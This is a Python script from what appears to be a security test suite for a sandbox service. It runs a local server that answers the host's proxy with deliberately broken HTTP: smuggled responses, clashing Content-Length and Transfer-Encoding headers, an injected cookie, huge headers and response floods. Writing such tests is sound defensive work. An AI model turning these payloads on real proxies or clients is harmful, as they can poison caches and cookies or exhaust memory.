# attack: e2b/server-that-lies
# oracle: service
# imports: socket, os
# tools:
# source: own
# note: runs in a sandbox: a server at a port of the box answers the host's proxy with every kind of broken HTTP
import socket

LIES = [
    b"",
    b"\0" * 100_000,
    b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nab",
    b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\nffffffffffffffff\r\n",
    b"HTTP/1.1 200 OK\r\nX: " + b"a" * 10_000_000,
    b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 1_000_000,
    b"HTTP/1.1 200 OK\r\nX: a\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: stolen=1\r\n\r\n",
    b"HTTP/1.1 999999 OK\r\n\r\n",
    b"HTTP/1.1 200 OK\r\nX: \x00\r\n\r\n",
    b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\n\r\nraw",
    b"HTTP/1.1 100 Continue\r\n\r\n" * 100_000,
    b"HTTP/1.1 200 OK\r\nContent-Type: application/connect+json\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n\xff\xff\xff\xff\xff\r\n",
    b"HTTP/1.1 700 What\r\nContent-Length: 0\r\n\r\n",
    b"HTTP/1.1 999 What\r\nContent-Length: 0\r\n\r\n",
    b"HTTP/1.1 304 Not Modified\r\nContent-Length: 5\r\n\r\n",
    b"HTTP/1.1 204 No Content\r\nContent-Length: 5\r\n\r\nabcde",
    b"HTTP/1.1 200 OK\r\nX: a\x01b\r\nContent-Length: 0\r\n\r\n",
    b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n0\r\n\r\n",
    b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:1/\r\nSet-Cookie: a=b\r\nContent-Length: 0\r\nClear-Site-Data: \"*\"\r\n\r\n",
]
server = socket.create_server(("127.0.0.1", 8123))
print("ready", flush=True)
for lie in LIES:
    client, _ = server.accept()
    with client:
        try:
            client.recv(65536)
            client.sendall(lie)
        except OSError as error:
            print(error)
